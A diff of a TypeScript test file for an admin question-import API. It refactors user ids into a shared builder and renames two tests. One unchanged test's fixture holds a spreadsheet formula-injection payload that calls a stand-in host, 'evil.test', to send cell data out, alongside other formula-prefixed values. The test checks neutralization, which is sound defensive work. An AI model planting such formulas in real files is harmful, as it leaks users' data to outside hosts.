@@ -1,6 +1,7 @@
 import { isDeepStrictEqual } from "node:util";
 import { beforeEach, describe, expect, it } from "vitest";
 import * as z from "zod/mini";
+import { SAMPLE_USERS } from "../../../builders/sample-users.ts";
 import seed from "../../../sample.json" with { type: "json" };
 import { readFile } from "../../../../src/api/admin/formats/files/read-file.ts";
 import { ImportLine } from "../../../../src/api/admin/import-schema.ts";
@@ -10,10 +11,7 @@ import { buildProfile } from "../../../builders/catalogue.ts";
 import { rowsOf, startBackend, type CallAs, type BodyParts } from "../../../builders/calls.ts";
 import { Unavailable } from "../../ports/store.ts";
 
-const ADMIN = 1;
-const INGE = 5;
-const LUIS = 6;
-const LEARNER = 7;
+const { admin: ADMIN, inge: INGE, luis: LUIS, learner: LEARNER } = SAMPLE_USERS;
 const T = "/api/admin/tenants/2";
 const CHECK = `${T}/questions/import?createMissing=1&dryRun=1`;
 const CHANGED = "The organization's questions have changed since the file was checked.";
@@ -228,7 +226,7 @@ describe("an import", () => {
     expect(await counts()).toEqual(before);
   });
 
-  it("of an export with formulas restores the texts that the export neutralized", async () => {
+  it("restores the texts with formulas that the export neutralized", async () => {
     const admin = await startBackend().as(ADMIN);
     const formula = '=HYPERLINK("http://evil.test/?"&A1)';
     const options = ["+1+1", "-2", "@SUM(A1)", "'=1"].map((text) => ({ text }));
@@ -442,7 +440,7 @@ describe("an import", () => {
     }
   });
 
-  it("that is refused is no longer in progress", async () => {
+  it("is no longer in progress after it was refused", async () => {
     for (let count = 0; count < 3; count += 1)
       expect((await admin("POST", CHECK, rowsOf([]))).status).toBe(400);
     expect((await check(admin, [draft("1")])).verdicts).toHaveLength(1);
